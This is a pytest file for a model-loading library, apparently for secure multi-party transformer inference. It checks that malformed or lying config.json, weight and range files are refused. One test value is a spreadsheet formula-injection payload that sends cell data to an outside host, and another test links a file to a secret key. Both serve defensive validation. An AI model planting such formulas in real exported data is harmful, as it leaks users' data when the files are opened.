"""A config.json is not believed: every reader of a model, or of its public files, compares it with the other files."""

import json
import resource
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

from mpcformer.cli import build_app
from mpcformer.engines.base import load_public_model
from mpcformer.errors import UserInputError
from mpcformer.modeling import load_checkpoint, load_student
from mpcformer.modeling.description import described
from mpcformer.modeling.limits import MOST, check_fields
from mpcformer.modeling.shapes import check_student, expected, header
from mpcformer.modeling.weights_file import load_weights
from parties.diagnosis import holdings
from parties.roles.model_owner import ModelOwner
from parties.settings.config import DataOwnerConfig, Insecure, ModelOwnerConfig, PeerAddress
from parties.settings.public_files import export_public
from tests.tiny import save_student

DEEP = "[" * 100_000
BIG = 10**9
# What config.json says, as changes of the right one or as a whole text, and what the refusal says.
LIES: list[tuple[Any, str]] = [
    ({"num_hidden_layers": 1}, "1 layers"),
    ({"num_hidden_layers": 3}, "3 layers"),
    ({"num_hidden_layers": 0}, "num_hidden_layers: 0 is no positive integer"),
    ({"num_hidden_layers": -1}, "num_hidden_layers: -1 is no positive integer"),
    ({"num_hidden_layers": BIG}, f"num_hidden_layers: {BIG} is above {MOST['num_hidden_layers']}"),
    ({"num_hidden_layers": True}, "num_hidden_layers: True is no positive integer"),
    ({"num_hidden_layers": "2"}, "num_hidden_layers: '2' is no positive integer"),
    *(({name: BIG}, f"{name}: {BIG} is above {MOST[name]}") for name in MOST),
    ({"num_attention_heads": [4]}, r"num_attention_heads: \[4\] is no positive integer"),
    ({"layer_norm_eps": "1e-12"}, "layer_norm_eps: '1e-12' is no number"),
    ({"attention_probs_dropout_prob": -1}, "attention_probs_dropout_prob: -1 is no number from 0 to 1"),
    ({"hidden_dropout_prob": 2.5}, r"hidden_dropout_prob: 2\.5 is no number from 0 to 1"),
    ({"initializer_range": [0.1]}, r"initializer_range: \[0\.1\] is no number"),
    ({"pad_token_id": 22}, "pad_token_id: 22 is none of the 22 words"),
    ({"pad_token_id": -1}, "pad_token_id: -1 is none of the 22 words"),
    ({"gelu": ["quad"]}, r"gelu: \['quad'\] is no name"),
    ({"task": {"name": "sst2"}}, "task: {'name': 'sst2'} is no name"),
    ({"task": "x" * 1000}, "task: 'xxx"),
    ({"constant_norms": {}}, "constant_norms"),
    ({"id2label": ["a", "b"]}, r"id2label: \['a', 'b'\] is no object"),
    ({"id2label": {"zero": "a", "1": "b"}}, "the classes are not numbered"),
    ({"id2label": {str(i): "x" for i in range(9000)}}, "is no object of at most 8192 names"),
    ({"id2label": {"0": '=WEBSERVICE("http://x/?"&A2)', "1": "b"}}, "begins as a formula does"),
    ({"id2label": {"0": "a", "1": "@b"}}, "begins as a formula does"),
    ({"id2label": {}, "num_labels": BIG}, f"num_labels: {BIG} is outside 1..8192"),
    ("[]", "holds no JSON object but a list"),
    ("3", "holds no JSON object but a int"),
    (DEEP, "is nested too deeply"),
    ("1" * 5000, "is not JSON"),
    ("{", "is not JSON"),
]
READERS: dict[str, Callable[[Path], object]] = {
    "load_student": load_student,
    "load_weights": load_weights,
    "load_public_model": load_public_model,
    "model owner": lambda folder: ModelOwner(model_owner(folder)),
    "export": lambda folder: export(folder),
}


@pytest.fixture
def copy(student: Path, tmp_path: Path) -> Path:
    return shutil.copytree(student, tmp_path / "copy")


def model_owner(folder: Path) -> ModelOwnerConfig:
    return ModelOwnerConfig(
        role="model-owner",
        id="model-owner",
        student=folder,
        coordinators=["coordinator"],
        data_owners=["data-owner"],
        dealers=["dealer"],
        insecure=Insecure(plaintext=True),
    )


def data_owner(folder: Path) -> DataOwnerConfig:
    return DataOwnerConfig(
        role="data-owner",
        id="data-owner",
        public_model=folder,
        dealer=PeerAddress(id="dealer", address="127.0.0.1:1"),
        model_owner=PeerAddress(id="model-owner", address="127.0.0.1:1"),
        insecure=Insecure(plaintext=True),
    )


def export(folder: Path) -> None:
    """Run the command `export`."""
    out = folder.with_name("exported")
    shutil.rmtree(out, ignore_errors=True)
    result = CliRunner().invoke(build_app(), ["export", "--student", str(folder), "--out", str(out)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        assert not out.exists()
        raise result.exception


def tell(folder: Path, said: Any) -> None:
    path = folder / "config.json"
    path.write_text(said if isinstance(said, str) else json.dumps(json.loads(path.read_text()) | said))


def edit_weights(folder: Path, **changes: torch.Tensor | None) -> None:
    state = load_file(folder / "model.safetensors")
    for name, value in changes.items():
        if value is None:
            del state[name]
        else:
            state[name] = value
    save_file(state, folder / "model.safetensors")


def rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


@pytest.mark.parametrize(("said", "message"), LIES, ids=[str(said)[:60] for said, _ in LIES])
def test_every_reader_refuses_such_a_configuration(copy: Path, said: Any, message: str) -> None:
    public = export_public(copy, copy.with_name("public"))
    for folder in (copy, public):
        tell(folder, said)
    before, started = rss(), time.monotonic()
    for read in READERS.values():
        with pytest.raises(UserInputError):
            read(copy)
    with pytest.raises(UserInputError, match=message):
        load_public_model(copy)
    for finding in (*holdings.students(model_owner(copy)), *holdings.public_models(data_owner(public))):
        assert finding.status, finding
        assert "Error" not in finding.found, "a refusal, and no error that nobody foresaw"
    assert time.monotonic() - started < 5
    assert rss() - before < 500 << 20


@pytest.mark.parametrize("weight_bits", [None, 8])
def test_a_good_student_is_read_by_all(copy: Path, tmp_path: Path, data_dir: Path, weight_bits: int | None) -> None:
    if weight_bits:
        copy = save_student(tmp_path / "compact", data_dir, precision="compact", weight_bits=weight_bits)
    for read in READERS.values():
        read(copy)
    description = described(json.loads((copy / "config.json").read_text()))
    assert expected(description, quantised=weight_bits is not None).keys() == header(copy).keys()
    assert not holdings.students(model_owner(copy))[0].status


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"bert.encoder.layer.2.output.dense.bias": torch.zeros(32)}, "layer.2.output.dense.bias, which is no part of"),
        ({"other": torch.zeros(1)}, "holds other, which is no part of the model"),
        ({"classifier.bias": torch.zeros(3)}, "1 tensors are missing or not shaped as config.json says"),
        ({"classifier.bias": torch.zeros(2, dtype=torch.int64)}, "1 tensors are missing or not shaped"),
        ({"classifier.bias": None}, r"lacks classifier\.bias"),
    ],
    ids=["layer", "other", "shape", "type", "missing"],
)
def test_the_tensors_are_exactly_those_of_the_configuration(
    copy: Path, changes: dict[str, torch.Tensor | None], message: str
) -> None:
    edit_weights(copy, **changes)
    for name in ("load_student", "load_weights", "model owner", "export"):
        with pytest.raises(UserInputError, match=message):
            READERS[name](copy)


def test_one_layer_told_for_two_is_refused_even_with_ranges_of_one(copy: Path) -> None:
    """Otherwise the answers were another model's, with status 0."""
    tell(copy, {"num_hidden_layers": 1})
    path = copy / "ranges.json"
    ranges = json.loads(path.read_text())
    ranges["bounds"] = {name: pair for name, pair in ranges["bounds"].items() if not name.startswith("layer.1.")}
    path.write_text(json.dumps(ranges))
    with pytest.raises(UserInputError, match=r"holds bert\.encoder\.layer\.1\..*, which is no part"):
        check_student(copy, json.loads((copy / "config.json").read_text()))
    with pytest.raises(UserInputError, match="which is no part"):
        ModelOwner(model_owner(copy))


def test_nothing_is_made_that_is_as_large_as_a_checkpoint_claims(copy: Path) -> None:
    sizes = {"hidden_size": 16_000, "embedding_size": 16_000, "intermediate_size": 64_000, "head_size": 4_000}
    tell(copy, {"num_hidden_layers": 250} | sizes)
    before, started = rss(), time.monotonic()
    with pytest.raises(UserInputError, match="describes a model of"):
        load_checkpoint(copy)
    assert rss() - before < 500 << 20
    assert time.monotonic() - started < 5


@pytest.mark.parametrize(
    "text", ['{"n_examples": 1, "bounds": {"a": [1e999, 1]}}', '{"n_examples": 1e999, "bounds": {}}', DEEP]
)
def test_ranges_that_are_no_ranges(copy: Path, text: str) -> None:
    (copy / "ranges.json").write_text(text)
    with pytest.raises(UserInputError):
        load_public_model(copy)


def test_a_student_without_a_tokenizer_is_not_exported(copy: Path) -> None:
    (copy / "tokenizer.json").write_text("{}")
    with pytest.raises(UserInputError, match="the tokenizer cannot be read"):
        export(copy)
    (copy / "tokenizer.json").unlink()
    with pytest.raises(UserInputError, match="has no tokenizer"):
        export(copy)


def test_a_link_to_a_key_is_not_exported(copy: Path, tmp_path: Path) -> None:
    (tmp_path / "a.key").write_text("secret")
    (copy / "vocab.txt").symlink_to(tmp_path / "a.key")
    with pytest.raises(UserInputError, match=r"vocab\.txt is a link to a file outside"):
        export(copy)
    (copy / "vocab.txt").unlink()
    (copy / "own.json").write_bytes((copy / "ranges.json").read_bytes())
    (copy / "ranges.json").unlink()
    (copy / "ranges.json").symlink_to("own.json")
    export(copy)


@pytest.mark.parametrize("text", ["[]", "{}", '{"sha256": 3}', '{"sha256": "ab"}', "{"])
def test_public_files_that_name_no_student(copy: Path, text: str) -> None:
    public = export_public(copy, copy.with_name("public"))
    (public / "student.json").write_text(text)
    assert holdings.public_models(data_owner(public))[0].status == 2


def test_a_class_may_be_called_by_a_negative_number() -> None:
    check_fields({"id2label": {"0": "-1", "1": "+1", "2": "a = b"}})
